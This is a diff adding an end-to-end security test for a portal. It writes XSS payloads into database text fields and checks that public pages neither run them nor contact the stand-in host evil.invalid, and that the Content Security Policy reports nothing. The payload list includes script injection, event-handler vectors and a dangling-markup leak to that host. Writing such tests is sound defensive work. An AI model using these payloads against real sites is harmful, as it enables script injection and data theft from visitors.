@@ -1,0 +1,161 @@
+import pg from 'pg'
+import type { Page, Request } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { useBrowser } from './browser.ts'
+import { enter } from './planner.ts'
+import { CUSTOMER_HEAD, OPERATOR } from './sign-in.ts'
+
+/**
+ * What the second wall is for: texts that reached the database by some road of their own, past every form and sanitiser,
+ * are read by visitors, and nothing of them runs. Then a walk over the portal, during which no browser reports anything.
+ */
+const portal = useBrowser()
+const EVIL = 'http://evil.invalid'
+/** One that is run calls `xssRan`; one that loads asks a host that is not ours. */
+const PAYLOADS = [
+  `<script>xssRan('script')</script>`,
+  `<img src=x onerror="xssRan('onerror')">`,
+  `<script src="${EVIL}/evil.js"></script>`,
+  `<base href="${EVIL}/"><script src=lib.js></script>`,
+  `<svg onload="xssRan('svg')"></svg>`,
+  `<iframe srcdoc="<script>parent.xssRan('srcdoc')</script>"></iframe>`,
+  `<a href="javascript:xssRan('link')">ссылка</a>`,
+  `<img src="${EVIL}/f?leak=`,
+]
+const HOSTILE = `Текст ${PAYLOADS.join(' ')}`
+
+/** Texts of public pages: where they are kept, and where they are read. */
+const FIELDS: readonly { table: string; column: string; where: string; path: (id: number) => string }[] = [
+  { table: 'post', column: 'body_ru', where: 'published_at <= now()', path: (id) => `/news/${id}` },
+  { table: 'post', column: 'title_ru', where: 'published_at <= now()', path: (id) => `/news/${id}` },
+  { table: 'faq', column: 'answer_ru', where: 'is_public', path: () => '/faq' },
+  { table: 'faq', column: 'question_ru', where: 'is_public', path: () => '/faq' },
+  { table: 'menu_item', column: 'body_ru', where: 'is_public', path: (id) => `/pages/${id}` },
+  { table: 'organization', column: 'name_ru', where: 'is_customer', path: (id) => `/organizations/${id}` },
+  { table: 'organization', column: 'address_ru', where: 'is_customer', path: (id) => `/organizations/${id}` },
+  {
+    table: 'announcement',
+    column: 'name_ru',
+    where: 'id in (select id from public_announcement)',
+    path: (id) => `/announcements/${id}`,
+  },
+  {
+    table: 'lot',
+    column: 'name_ru',
+    where: 'id in (select id from public_lot)',
+    path: (id) => `/lots/${id}`,
+  },
+]
+
+const url = process.env.E2E_DATABASE_URL
+const db = new pg.Pool({ connectionString: url, max: 1 })
+let undo: (() => Promise<unknown>)[] = []
+
+beforeAll(() => {
+  if (!url) throw new Error('E2E_DATABASE_URL is the database of the portal: these texts go past its forms')
+})
+afterAll(async () => {
+  for (const back of undo) await back()
+  await db.end()
+})
+
+/** Replaces a text of the first row and remembers the old one. */
+async function plant({ table, column, where }: (typeof FIELDS)[number]): Promise<number> {
+  const { rows } = await db.query(
+    `select id, ${column} as old from ${table} where ${where} and ${column} is not null order by id limit 1`,
+  )
+  const { id, old } = rows[0]
+  const set = (text: string) => db.query(`update ${table} set ${column} = $1 where id = $2`, [text, id])
+  await set(HOSTILE)
+  undo = [() => set(old), ...undo]
+  return Number(id)
+}
+
+/** What ran, and what was asked of strangers. */
+async function watch(page: Page): Promise<string[]> {
+  const seen: string[] = []
+  await page.exposeFunction('xssRan', (name: string) => void seen.push(name))
+  page.on('request', (request: Request) => {
+    if (request.url().startsWith(EVIL)) seen.push(request.url())
+  })
+  return seen
+}
+
+const reports = (page: Page) => {
+  const seen: string[] = []
+  page.on('request', (request) => {
+    if (request.url().endsWith('/api/csp-reports')) seen.push(request.postData() ?? '')
+  })
+  page.on('console', (message) => {
+    if (/Content Security Policy|TrustedHTML/.test(message.text())) seen.push(message.text())
+  })
+  return seen
+}
+
+describe('hostile texts in the database', () => {
+  it(`run 0 of ${PAYLOADS.length * FIELDS.length}`, { timeout: 240_000 }, async () => {
+    const pages = new Set<string>()
+    for (const field of FIELDS) pages.add(field.path(await plant(field)))
+    const page = await (await portal.newContext()).newPage()
+    const seen = await watch(page)
+    for (const path of pages) {
+      await page.goto(path)
+      await page.getByText('Текст').first().waitFor()
+      // A link of a text is there to be pressed.
+      for (const link of await page.getByRole('link', { name: 'ссылка', exact: true }).all())
+        await link.click({ timeout: 2_000, noWaitAfter: true }).catch(() => {})
+    }
+    expect(seen).toEqual([])
+    // Without its sanitiser and React these payloads do run: the watch is not blind.
+    const naked = await (await portal.newContext()).newPage()
+    const ran = await watch(naked)
+    await naked.setContent(`<p>${PAYLOADS.slice(0, 2).join('')}</p>`)
+    await expect.poll(() => ran.length).toBeGreaterThan(0)
+    portal.forgiveErrors()
+  })
+})
+
+describe('the policy', () => {
+  it('stops nothing of the portal itself', { timeout: 240_000 }, async () => {
+    const page = await (await portal.newContext()).newPage()
+    const seen = reports(page)
+    for (const path of [
+      '/',
+      '/announcements',
+      '/lots',
+      '/statistics',
+      '/news',
+      '/faq',
+      '/organizations',
+      '/login',
+    ])
+      await page.goto(path, { waitUntil: 'networkidle' })
+    expect(seen).toEqual([])
+  })
+
+  it.each([
+    [
+      CUSTOMER_HEAD,
+      ['/cabinet', '/cabinet/plans', '/cabinet/plan-items', '/cabinet/statistics', '/cabinet/profile'],
+    ],
+    [
+      OPERATOR,
+      [
+        '/operator',
+        '/operator/journal',
+        '/operator/state',
+        '/operator/posts/new',
+        '/cabinet/supplier-experience',
+      ],
+    ],
+  ])('nor of the cabinet of %s', { timeout: 240_000 }, async (login, paths) => {
+    const page = await enter(await portal.newContext(), paths[0] as string, login)
+    const seen = reports(page)
+    for (const path of paths) {
+      await page.goto(path)
+      await page.getByRole('heading', { level: 1 }).first().waitFor()
+      await page.waitForLoadState('load')
+    }
+    expect(seen).toEqual([])
+  })
+})
